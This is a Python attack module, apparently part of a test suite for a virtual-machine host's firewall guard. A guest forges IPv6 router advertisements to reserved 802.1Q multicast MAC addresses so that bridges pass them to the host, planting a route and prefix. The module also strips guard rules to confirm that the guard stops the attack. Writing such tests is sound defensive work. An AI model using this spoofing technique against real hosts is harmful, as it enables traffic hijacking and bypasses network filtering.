"""A guest advertises itself to the host as a router, in frames that a bridge hands to the host as if it were none.

A frame to one of the addresses that IEEE 802.1Q reserves (01:80:c2:00:00:02 to 0f) is not bridged: Linux hands it to the host as come by the tap. So
rules for what comes by a bridge do not see it. Gained: the host's default route for IPv6 by the tap, a prefix, and days between two questions for a
neighbour, so that the table of neighbours can be filled for good. In the way: the guard drops IP to such addresses, and the host takes no
advertisement with the guard's mark, whatever it came by (chains `guard_ip6_…`, `guard_discovery_…`, `input`).
"""

import contextlib
import struct
import time

import attack
import rules
import space
import wire
from attack import Outcome
from attacks.lib import dresses
from attacks.router_advertised import PREFIX, WAIT
from field import Field
from host import Host

EVERYONE = wire.ip("ff02::1")


def frames(field: Field, to: bytes) -> list[bytes]:
    """An advertisement to a hardware address, plain and behind another header."""
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 1800, 1800, 0) + wire.ip(PREFIX)
    body = struct.pack("!BBHBBHII", wire.ROUTER_ADVERTISEMENT, 0, 0, 0, 0, 1800, 0, WAIT) + prefix
    pair = (wire.ip(field.me.local6), EVERYONE)
    options = bytes([wire.ICMPV6, 0, 1, 4, 0, 0, 0, 0])
    return [
        wire.discovery(to, field.me.link, pair, body, b"", wire.ICMPV6),
        wire.discovery(to, field.me.link, pair, body, options, wire.HOP_BY_HOP),
        wire.discovery(to, field.me.link, pair, body, options, wire.DESTINATION_OPTIONS),
    ]


def believed(link: str) -> str | None:
    """What the host has learned from an advertisement at one of its links."""
    with open(f"/proc/sys/net/ipv6/neigh/{link}/retrans_time_ms", encoding="ascii") as file:
        waits = int(file.read())
    routes = [line.strip() for line in space.call("ip", "-6", "route", "show", "dev", link).splitlines() if "proto ra" in line]
    return f"the host waits {waits} ms at {link} and has the routes {routes}" if routes or waits != 1000 else None


def forget(link: str) -> None:
    """Makes the host forget that."""
    with contextlib.suppress(space.Failure):
        space.setting(f"net.ipv6.conf.{link}.disable_ipv6", 1)
        space.setting(f"net.ipv6.conf.{link}.disable_ipv6", 0)
        space.setting(f"net.ipv6.neigh.{link}.retrans_time_ms", 1000)


class Attack(attack.Attack):
    """The forger advertises to every address that is reserved."""

    hosts = ("address", "redirect", "bridge", "auto")
    families = (6,)
    proofs = (("address", 6), ("auto", 6))

    def attack(self, field: Field) -> None:
        """Advertises."""
        # A bridge that takes no part in the spanning tree forwards 00, and guests would hear; none forwards 01.
        kinds = {f"to …:0{last:x}": frames(field, wire.mac(f"01:80:c2:00:00:0{last:x}")) for last in range(2, 16)}
        dresses.send(field, kinds)

    def during(self, host: Host, outcome: Outcome) -> None:
        """Looks at what the host believes."""
        time.sleep(2)
        outcome.host_report["believed"] = believed(host.forger.tap)

    def gained(self, outcome: Outcome) -> str | None:
        """A host that believes."""
        return outcome.host_report["believed"]

    def weaken(self, host: Host) -> None:
        """Lets the frames in, and the host hear."""
        rules.remove(r"ether daddr &", "netdev", "guard_ip6_.*")
        rules.remove(r"mark 0x[89a-f]\w{7} ", "inet", "input")

    def restore(self, host: Host) -> None:
        """The host forgets."""
        forget(host.forger.tap)
        host.heal()
